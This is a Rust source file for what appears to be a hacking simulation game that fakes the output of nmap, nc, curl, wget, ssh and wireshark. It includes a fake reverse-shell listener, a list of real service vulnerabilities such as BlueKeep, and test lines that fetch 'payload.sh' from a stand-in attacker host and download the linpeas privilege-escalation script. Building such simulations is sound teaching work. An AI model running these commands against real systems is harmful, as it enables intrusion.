//! Network tools: nmap, wireshark, nc, curl, wget, ssh.

use std::time::Duration;

use futures::future::BoxFuture;
use hackme_types::collab::{StyleHint, WindowId};
use hackme_types::error::Result;
use hackme_types::records::{DiscoveredHost, Vulnerability};

use crate::interpreter::{Command, Environment};

pub const COMMANDS: &[Command] = &[NMAP, WIRESHARK, NC, CURL, WGET, SSH];

// ---------------------------------------------------------------------------
// nmap
// ---------------------------------------------------------------------------

pub const NMAP: Command = Command {
    name: "nmap",
    description: "Scan a host for open ports",
    usage: "nmap [-sV] <target>",
    category: "Network",
    hidden: false,
    handler: nmap,
};

struct OpenPort {
    port: u16,
    service: &'static str,
    version: &'static str,
    weakness: Option<&'static str>,
}

const OPEN_PORTS: &[OpenPort] = &[
    OpenPort {
        port: 22,
        service: "ssh",
        version: "OpenSSH 7.4 (protocol 2.0)",
        weakness: Some("username enumeration (CVE-2018-15473)"),
    },
    OpenPort {
        port: 80,
        service: "http",
        version: "Apache httpd 2.4.49",
        weakness: Some("path traversal (CVE-2021-41773)"),
    },
    OpenPort {
        port: 443,
        service: "https",
        version: "nginx 1.18.0",
        weakness: None,
    },
    OpenPort {
        port: 3389,
        service: "ms-wbt-server",
        version: "Microsoft Terminal Services",
        weakness: Some("BlueKeep remote code execution (CVE-2019-0708)"),
    },
    OpenPort {
        port: 5900,
        service: "vnc",
        version: "VNC (protocol 3.8)",
        weakness: Some("no authentication required"),
    },
];

const SCAN_LATENCY_MS: u64 = 1200;

fn nmap(args: Vec<String>, env: &mut Environment) -> BoxFuture<'_, Result<()>> {
    Box::pin(async move {
        let service_scan = args.iter().any(|a| a == "-sV");
        let Some(target) = args.iter().find(|a| !a.starts_with('-')) else {
            env.print("Usage: nmap [target]").await;
            return Ok(());
        };

        env.print(format!("Starting Nmap scan on {target}")).await;
        env.pause(SCAN_LATENCY_MS).await;

        let mut report = vec![
            String::new(),
            format!("Nmap scan report for {target}"),
            "Host is up (0.00050s latency).".to_string(),
            String::new(),
        ];
        if service_scan {
            report.push("PORT     STATE SERVICE       VERSION".to_string());
        } else {
            report.push("PORT     STATE SERVICE".to_string());
        }
        for p in OPEN_PORTS {
            let port = format!("{}/tcp", p.port);
            if service_scan {
                report.push(format!("{port:<8} open  {:<14}{}", p.service, p.version));
            } else {
                report.push(format!("{port:<8} open  {}", p.service));
            }
        }
        if service_scan {
            report.push(String::new());
            report.push("Potential vulnerabilities:".to_string());
            for p in OPEN_PORTS {
                if let Some(weakness) = p.weakness {
                    report.push(format!("|_ {}/{}: {weakness}", p.port, p.service));
                }
            }
        }
        report.push(String::new());
        report.push("Nmap done: 1 IP address (1 host up) scanned".to_string());
        env.out.lines(report, StyleHint::Normal).await;

        env.sink.add_discovered_host(DiscoveredHost {
            ip: target.clone(),
            ports: OPEN_PORTS.iter().map(|p| p.port).collect(),
        });
        if service_scan {
            for p in OPEN_PORTS {
                if let Some(weakness) = p.weakness {
                    env.sink.add_vulnerability(Vulnerability {
                        host: target.clone(),
                        port: p.port,
                        service: p.service.to_string(),
                        summary: weakness.to_string(),
                    });
                }
            }
        }
        env.bus.publish("network_scan");
        Ok(())
    })
}

// ---------------------------------------------------------------------------
// wireshark
// ---------------------------------------------------------------------------

pub const WIRESHARK: Command = Command {
    name: "wireshark",
    description: "Open the packet analyzer",
    usage: "wireshark",
    category: "Network",
    hidden: false,
    handler: wireshark,
};

fn wireshark(_args: Vec<String>, env: &mut Environment) -> BoxFuture<'_, Result<()>> {
    Box::pin(async move {
        env.print("Opening Wireshark packet analyzer...").await;
        env.windows.show(WindowId::PacketCapture);
        Ok(())
    })
}

// ---------------------------------------------------------------------------
// nc
// ---------------------------------------------------------------------------

pub const NC: Command = Command {
    name: "nc",
    description: "Open or listen for a raw TCP connection",
    usage: "nc <host> [port] | nc -l [port]",
    category: "Network",
    hidden: false,
    handler: nc,
};

fn nc(args: Vec<String>, env: &mut Environment) -> BoxFuture<'_, Result<()>> {
    Box::pin(async move {
        if let Some(pos) = args.iter().position(|a| a == "-l") {
            let port = args.get(pos + 1).map_or("4444", String::as_str);
            env.print_lines(&[
                format!("Listening on [0.0.0.0] (family 0, port {port})").as_str(),
                "Connection received on localhost 127.0.0.1 59842",
                "Microsoft Windows [Version 10.0.19042.1415]",
                "(c) Microsoft Corporation. All rights reserved.",
                "",
                "C:\\Users\\john>",
            ])
            .await;
        } else {
            let target = args.first().map_or("localhost", String::as_str);
            let port = args.get(1).map_or("4444", String::as_str);
            env.print_lines(&[
                format!("Connecting to {target}:{port}...").as_str(),
                "Connection established",
            ])
            .await;
        }
        Ok(())
    })
}

// ---------------------------------------------------------------------------
// curl / wget
// ---------------------------------------------------------------------------

pub const CURL: Command = Command {
    name: "curl",
    description: "Fetch a URL",
    usage: "curl <url>",
    category: "Network",
    hidden: false,
    handler: curl,
};

fn curl(args: Vec<String>, env: &mut Environment) -> BoxFuture<'_, Result<()>> {
    Box::pin(async move {
        let Some(url) = args.first() else {
            env.print("curl: try 'curl --help' or 'curl --manual' for more information")
                .await;
            return Ok(());
        };
        env.print_lines(&[
            format!("Downloading {url}...").as_str(),
            "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current",
            "                                 Dload  Upload   Total   Spent    Left  Speed",
            "100  1256  100  1256    0     0   2847      0 --:--:-- --:--:-- --:--:--  2847",
        ])
        .await;
        if url.contains("exploit") || url.contains("payload") {
            env.print_lines(&["", "Exploit downloaded successfully", "File saved as: exploit.py"])
                .await;
        }
        Ok(())
    })
}

pub const WGET: Command = Command {
    name: "wget",
    description: "Download a file",
    usage: "wget <url>",
    category: "Network",
    hidden: false,
    handler: wget,
};

/// Host part of a URL, with or without a scheme.
fn url_host(url: &str) -> &str {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    rest.split(['/', ':', '?']).next().unwrap_or(rest)
}

/// Last path segment of a URL, or `index.html`.
fn url_file(url: &str) -> &str {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    match rest.split_once('/') {
        Some((_, path)) => match path.rsplit('/').next() {
            Some(name) if !name.is_empty() => name,
            _ => "index.html",
        },
        None => "index.html",
    }
}

fn wget(args: Vec<String>, env: &mut Environment) -> BoxFuture<'_, Result<()>> {
    Box::pin(async move {
        let Some(url) = args.first() else {
            env.print_lines(&["wget: missing URL", "Usage: wget [OPTION]... [URL]..."])
                .await;
            return Ok(());
        };
        let host = url_host(url);
        let file = url_file(url);
        env.print_lines(&[
            format!("--2024-01-20 21:30:45--  {url}").as_str(),
            format!("Resolving {host}... 203.0.113.1").as_str(),
            format!("Connecting to {host}|203.0.113.1|:80... connected.").as_str(),
            "HTTP request sent, awaiting response... 200 OK",
            "Length: 1234567 (1.2M) [application/octet-stream]",
            format!("Saving to: '{file}'").as_str(),
            "",
            "100%[===================>] 1.18M  2.45MB/s    in 0.5s",
            "",
            format!("2024-01-20 21:30:46 (2.45 MB/s) - '{file}' saved [1234567/1234567]").as_str(),
        ])
        .await;
        Ok(())
    })
}

// ---------------------------------------------------------------------------
// ssh
// ---------------------------------------------------------------------------

pub const SSH: Command = Command {
    name: "ssh",
    description: "Log in to a remote host",
    usage: "ssh [user@]host",
    category: "Exploitation",
    hidden: false,
    handler: ssh,
};

const SSH_USAGE: &[&str] = &[
    "usage: ssh [-46AaCfGgKkMNnqsTtVvXxYy] [-B bind_interface]",
    "           [-b bind_address] [-c cipher_spec] [-D [bind_address:]port]",
    "           [-E log_file] [-e escape_char] [-F configfile] [-I pkcs11]",
    "           [-i identity_file] [-J [user@]host[:port]] [-L address]",
    "           [-l login_name] [-m mac_spec] [-O ctl_cmd] [-o option] [-p port]",
    "           [-Q query_option] [-R address] [-S ctl_path] [-W host:port]",
    "           [-w local_tun[:remote_tun]] destination [command]",
];

const MOTD: &[&str] = &[
    "",
    "Welcome to Ubuntu 20.04.3 LTS (GNU/Linux 5.4.0-91-generic x86_64)",
    "",
    " * Documentation:  https://help.ubuntu.com",
    " * Management:     https://landscape.canonical.com",
    " * Support:        https://ubuntu.com/advantage",
    "",
    "  System information as of Sat Jan 20 21:30:45 UTC 2024",
    "",
    "  System load:  0.08              Processes:               98",
    "  Usage of /:   42.8% of 9.78GB   Users logged in:         0",
    "  Memory usage: 18%               IPv4 address for enp0s3: 192.168.1.100",
    "  Swap usage:   0%",
    "",
    "0 updates can be applied immediately.",
    "",
    "Last login: Sat Jan 20 20:15:32 2024 from 192.168.1.1",
];

/// Delay between the password prompt and the login banner.
pub const SSH_LOGIN_DELAY: Duration = Duration::from_secs(2);

fn ssh(args: Vec<String>, env: &mut Environment) -> BoxFuture<'_, Result<()>> {
    Box::pin(async move {
        let Some(target) = args.first() else {
            env.print_lines(SSH_USAGE).await;
            return Ok(());
        };
        env.print_lines(&[
            format!("Connecting to {target}...").as_str(),
            "The authenticity of host '192.168.1.100 (192.168.1.100)' can't be established.",
            "ED25519 key fingerprint is SHA256:YGQ3GJN8sB0k0LDaD3GjW3aQO7R3Kz1lF+/NvVU2kBw.",
            "Are you sure you want to continue connecting (yes/no/[fingerprint])? yes",
            "Warning: Permanently added '192.168.1.100' (ED25519) to the list of known hosts.",
            format!("root@{target}'s password: ").as_str(),
        ])
        .await;

        // The banner arrives after the command has returned.
        let host = target.split_once('@').map_or(target.as_str(), |(_, h)| h).to_string();
        let out = env.out.clone();
        env.scheduler.after(SSH_LOGIN_DELAY, "ssh login banner", async move {
            out.lines(MOTD.iter().copied(), StyleHint::Normal).await;
            out.line(format!("root@{host}:~# ")).await;
        });
        Ok(())
    })
}

#[cfg(test)]
mod tests {
    use hackme_types::testing::WindowEvent;

    use super::*;
    use crate::test_support::Harness;

    #[tokio::test(start_paused = true)]
    async fn nmap_without_target_prints_usage() {
        let h = Harness::new();
        h.run(&["nmap", "nmap -sV"]).await;
        assert_eq!(h.surface.lines(), vec!["Usage: nmap [target]"; 2]);
        assert!(h.published().is_empty());
        assert!(h.log.hosts().is_empty());
    }

    #[tokio::test(start_paused = true)]
    async fn nmap_records_host_and_publishes_scan() {
        let h = Harness::new();
        h.run(&["nmap 192.168.1.0/24"]).await;
        assert!(h.surface.contains("Nmap scan report for 192.168.1.0/24"));
        assert!(h.surface.contains("3389/tcp open  ms-wbt-server"));
        assert_eq!(h.published(), vec!["network_scan"]);
        let hosts = h.log.hosts();
        assert_eq!(hosts.len(), 1);
        assert_eq!(hosts[0].ip, "192.168.1.0/24");
        assert_eq!(hosts[0].ports, vec![22, 80, 443, 3389, 5900]);
        assert!(h.log.vulnerabilities().is_empty());
    }

    #[tokio::test(start_paused = true)]
    async fn nmap_service_scan_reports_vulnerabilities() {
        let h = Harness::new();
        h.run(&["nmap -sV 192.168.1.110"]).await;
        assert!(h.surface.contains("OpenSSH 7.4"));
        let vulns = h.log.vulnerabilities();
        assert_eq!(vulns.len(), 4);
        assert!(vulns.iter().all(|v| v.host == "192.168.1.110"));
        assert!(vulns.iter().any(|v| v.port == 3389));
    }

    #[tokio::test(start_paused = true)]
    async fn wireshark_only_opens_window() {
        let h = Harness::new();
        h.run(&["wireshark"]).await;
        assert_eq!(h.windows.events(), vec![WindowEvent::Show(WindowId::PacketCapture)]);
        assert!(h.published().is_empty());
    }

    #[tokio::test(start_paused = true)]
    async fn nc_listen_uses_given_port() {
        let h = Harness::new();
        h.run(&["nc -l 9001", "nc"]).await;
        assert!(h.surface.contains("port 9001"));
        assert!(h.surface.contains("Connecting to localhost:4444..."));
    }

    #[tokio::test(start_paused = true)]
    async fn curl_flags_exploit_downloads() {
        let h = Harness::new();
        h.run(&["curl http://evil.example/payload.sh"]).await;
        assert!(h.surface.contains("Exploit downloaded successfully"));
    }

    #[test]
    fn url_parts() {
        assert_eq!(url_host("http://example.com/a/b.tar.gz"), "example.com");
        assert_eq!(url_host("example.com:8080/x"), "example.com");
        assert_eq!(url_file("http://example.com/a/b.tar.gz"), "b.tar.gz");
        assert_eq!(url_file("http://example.com/"), "index.html");
        assert_eq!(url_file("http://example.com"), "index.html");
    }

    #[tokio::test(start_paused = true)]
    async fn wget_names_saved_file() {
        let h = Harness::new();
        h.run(&["wget https://203.0.113.1/tools/linpeas.sh"]).await;
        assert!(h.surface.contains("Saving to: 'linpeas.sh'"));
    }

    #[tokio::test(start_paused = true)]
    async fn ssh_banner_arrives_later() {
        let h = Harness::new();
        h.run(&["ssh admin@192.168.1.1"]).await;
        assert!(h.surface.contains("root@admin@192.168.1.1's password:"));
        assert!(!h.surface.contains("Welcome to Ubuntu"));
        tokio::time::sleep(SSH_LOGIN_DELAY * 2).await;
        assert!(h.surface.contains("Welcome to Ubuntu"));
        assert_eq!(h.surface.lines().last().unwrap(), "root@192.168.1.1:~# ");
    }

    #[tokio::test(start_paused = true)]
    async fn ssh_banner_is_cancelled_with_session() {
        let h = Harness::new();
        h.run(&["ssh 10.0.0.5"]).await;
        h.scheduler.cancel();
        tokio::time::sleep(SSH_LOGIN_DELAY * 2).await;
        assert!(!h.surface.contains("Welcome to Ubuntu"));
    }

    #[tokio::test(start_paused = true)]
    async fn ssh_without_target_prints_usage() {
        let h = Harness::new();
        h.run(&["ssh"]).await;
        assert_eq!(h.surface.lines().len(), SSH_USAGE.len());
    }
}
